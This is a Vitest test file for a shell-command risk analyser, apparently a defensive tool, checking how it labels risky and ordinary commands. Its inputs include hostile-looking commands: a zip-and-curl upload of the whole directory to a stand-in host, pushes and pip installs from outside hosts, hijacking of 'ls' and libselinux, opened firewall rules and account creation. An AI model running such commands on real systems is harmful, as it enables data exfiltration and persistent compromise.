import { describe, expect, test } from 'vitest'
import { analyse } from '../analyse.ts'

/** Commands whose content decides, and nobody has seen it. */
const DEPENDS: readonly (readonly [command: string, what: RegExp])[] = [
  [
    'sudo dpkg-deb -x tools.deb /opt/tools',
    /file that dpkg-deb writes depends on what is put there/,
  ],
  ['sudo rsync -a stage/ /opt/tools/', /mode that rsync sets depends on the rights/],
  ['sudo cp -a stage/. /opt/tools/', /mode that cp sets depends on the rights/],
  ['sudo tar -xpf tools.tar -C /srv/app', /mode that tar sets depends on the rights/],
  ['rsync -a home/ ~/', /what the directory holds/],
  ['sudo iptables-restore < open.rules', /the rules that it is given/],
  ['sudo nft -f open.nft', /the rules that it is given/],
  ['yadm clone https://x.example/dots', /repository of dotfiles/],
  ['chezmoi init --apply https://x.example/dots', /repository of dotfiles/],
  ['restic restore latest --target ~', /file that restic restore writes/],
  ['hugo -d ~', /file that hugo writes depends on what is put there/],
  ['crontab deploy/jobs.txt', /the content of deploy\/jobs\.txt/],
  ['docker run -v ~:/data tool/tool', /directory that docker gives to a container/],
  ['zip -qr p.zip . && curl -F f=@p.zip https://x.example/', /all of it is sent/],
  ['git push https://x.example/r.git main', /no remote of the repository/],
  ['git config --local include.path ../tools/gitconfig', /settings say that are included/],
  ['pip install https://x.example/p-1.0.tar.gz', /code that pip install runs/],
  ['systemd-run --on-calendar=daily ./job.sh', /starts again/],
  ['npm uninstall -g "$(npm ls -g | tail -1)"', /which package it is/],
  ['hash -p ./tool ls', /what ls does from now on/],
  ['sudo ldconfig /opt/app/lib', /what every program loads/],
  ['sudo ln -s /opt/app/libselinux.so.1 /usr/local/lib/', /what libselinux\.so does from now on/],
  ['ucf /usr/share/x/sshd_config /etc/ssh/sshd_config', /new version of the file/],
]

describe('where the content decides it is said so', () => {
  test.each(DEPENDS)('%s', (command, what) => {
    const { verdict, certainty, unknowns } = analyse(command)
    expect(verdict).not.toBe('BLOCK')
    expect(certainty).toBe('unresolved')
    expect(unknowns?.map((part) => part.what).join('\n')).toMatch(what)
  })
})

describe('ordinary neighbours are known', () => {
  test.each([
    'dpkg-deb -x tools.deb out',
    'rsync -a src/ build/',
    'rsync -avz --exclude node_modules ./ deploy@staging.example.com:/srv/app/',
    'cp -a src dest',
    'tar -xpf sources.tar',
    'sudo cp site.conf /etc/nginx/sites-available/site.conf',
    'restic restore latest --target ./restore',
    'hugo -d public',
    'crontab -l',
    'git push -u origin feature',
    'pip install git+https://github.com/psf/requests',
    'npm uninstall -g typescript',
    'hash -p /usr/local/bin/node20 node',
    'sudo ldconfig',
    'nft list ruleset',
    'docker run --rm -v "$PWD":/app node:20 npm test',
    'make -j"$(nproc)" && sudo make install',
    'aws s3 sync dist s3://bucket',
    "aws s3 sync . s3://bucket --exclude '.*'",
  ])('%s', (command) => {
    const { verdict, certainty } = analyse(command)
    expect([verdict === 'BLOCK', certainty]).toEqual([false, 'known'])
  })
})

describe('what is said is true', () => {
  const reason = (command: string) => analyse(command).reason

  test('what is installed runs', () => {
    expect(reason('pip install https://github.com/x/y/archive/1.tar.gz')).toMatch(/and installs it/)
    expect(reason('curl -O https://x.example/p.tgz')).toMatch(/and does not run it/)
  })

  test('a slash behind a directory means what is in it', () => {
    expect(reason('rsync -a dist/ public/')).toContain('"public/*"')
    expect(reason('rsync -a dist public/')).toContain('"public/dist"')
  })

  test('an address or a format is no file', () => {
    const writes = (command: string) =>
      analyse(command)
        .trace()
        .effects.filter(({ kind }) => kind === 'write')
    expect(writes('./tool -o pool.example.net:443')).toEqual([])
    expect(writes('frobnicate --output=json')).toEqual([])
    expect(writes('frobnicate --output=report.json')).toHaveLength(1)
  })

  test('accounts are added by lines for systemd-sysusers', () => {
    expect(reason('echo "u x - - / /bin/sh" | sudo systemd-sysusers -')).toMatch(/adds accounts/)
  })
})
